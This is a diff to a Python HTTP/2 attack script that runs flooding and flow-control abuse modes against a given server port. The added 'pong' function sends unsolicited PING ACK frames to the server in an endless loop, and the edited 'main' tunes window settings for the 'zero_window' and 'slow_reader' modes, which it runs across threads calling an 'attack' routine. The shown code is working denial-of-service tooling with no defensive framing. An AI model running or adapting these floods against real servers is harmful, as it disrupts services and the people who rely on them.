@@ -121,6 +121,13 @@ def read_ping(connection):
             return
 
 
+def pong(connection):
+    """Answers to pings that the server has not sent, of which the h2 crate warns in the log."""
+    one = PingFrame(0, opaque_data=b"x" * 8, flags=["ACK"]).serialize()
+    while True:
+        connection.send(one * 1000)
+
+
 def empty_data(connection):
     """Frames of a body that carry nothing, which no window counts."""
     connection.send(connection.headers(1, ("END_HEADERS",), method="POST", path="/upload"))
@@ -256,7 +263,7 @@ def main():
     name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
     act = globals()[name]
     report, until = collections.Counter(), time.monotonic() + seconds
-    settings = {4: 0} if name == "zero_window" else None
+    settings = {zero_window: {4: 0}, slow_reader: {4: (1 << 31) - 1}}.get(act)
     arguments = (act, port, until, report, settings)
     connections = 2 if act in (slow_reader, zero_window) else CONNECTIONS  # more would occupy the API
     threads = [threading.Thread(target=attack, args=arguments, daemon=True) for _ in range(connections)]
